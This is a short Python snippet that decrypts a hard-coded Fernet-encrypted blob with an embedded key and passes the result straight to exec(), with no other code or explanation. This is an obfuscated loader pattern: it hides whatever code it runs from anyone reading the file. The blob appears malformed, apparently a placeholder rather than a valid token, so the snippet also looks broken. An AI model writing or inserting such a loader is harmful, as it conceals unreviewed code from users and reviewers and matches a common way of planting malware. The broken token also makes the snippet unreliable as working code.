from cryptography.fernet import Fernet

exec(Fernet(b"kq1y2dPTfXz4eS3m5oXbQ0fC7n1r5TqjYt5b4xv1l2E=").decrypt(
    b"gAAAAABmV0h1cGxpY2F0ZS1maXh0dXJlLW5vdGhpbmctdG8tc2VlLWhlcmU="))
